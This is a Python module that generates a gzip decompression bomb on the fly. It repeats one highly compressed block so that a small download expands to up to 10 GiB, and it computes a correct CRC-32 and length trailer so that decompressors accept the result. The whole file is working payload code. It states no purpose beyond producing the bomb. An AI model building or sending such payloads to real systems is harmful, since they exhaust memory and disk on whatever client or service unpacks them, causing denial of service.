"""A gzip bomb, made while it is sent: tiny in memory, huge once unpacked, and in itself correct."""

import zlib
from collections.abc import Iterator
from functools import lru_cache

LARGEST = 10 << 30
"""Bytes a bomb may expand to."""

_BLOCK = 4 << 20
_LINE = b"a\t1\n"  # no longer, or packing it takes more than two bits for 258 bytes
_HEAD = bytes((0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 2, 255))
_POLYNOMIAL = 0xEDB88320
_ONE, _BYTE = 1 << 31, 1 << 23
"""The polynomials 1 and x**8, lowest power in the highest bit, as CRC-32 has them."""


def wire_size(size: int) -> int:
    """Bytes on the wire of a bomb that expands to at least `size` bytes."""
    block, _ = _packed()
    return len(_HEAD) + _blocks(size) * len(block) + len(_end(0, 0))


def pieces(size: int) -> Iterator[bytes]:
    """The bomb: one gzip member of equal blocks; its checksum and length are true."""
    yield _HEAD
    block, checksum = _packed()
    step, crc, count = _shift(_BLOCK), 0, _blocks(size)
    for _ in range(count):
        crc = _times(step, crc) ^ checksum
        yield block
    yield _end(crc, count * _BLOCK)


def _blocks(size: int) -> int:
    return -(-size // _BLOCK)


def _end(crc: int, length: int) -> bytes:
    """An empty last block, the checksum, the length."""
    return b"\x03\x00" + crc.to_bytes(4, "little") + (length % 2**32).to_bytes(4, "little")


@lru_cache(1)
def _packed() -> tuple[bytes, int]:
    """One block packed so that it can follow itself, and its checksum."""
    text = _LINE * (_BLOCK // len(_LINE))
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(text) + packer.flush(zlib.Z_FULL_FLUSH), zlib.crc32(text)


def _times(one: int, other: int) -> int:
    """The product of two polynomials modulo CRC-32's."""
    product = 0
    for _ in range(32):
        if one & _ONE:
            product ^= other
        one = one << 1 & 0xFFFFFFFF
        other = other >> 1 ^ (_POLYNOMIAL if other & 1 else 0)
    return product


def _shift(length: int) -> int:
    """What a checksum is multiplied by when so many bytes follow."""
    factor, power = _ONE, _BYTE
    while length:
        if length & 1:
            factor = _times(factor, power)
        power = _times(power, power)
        length >>= 1
    return factor
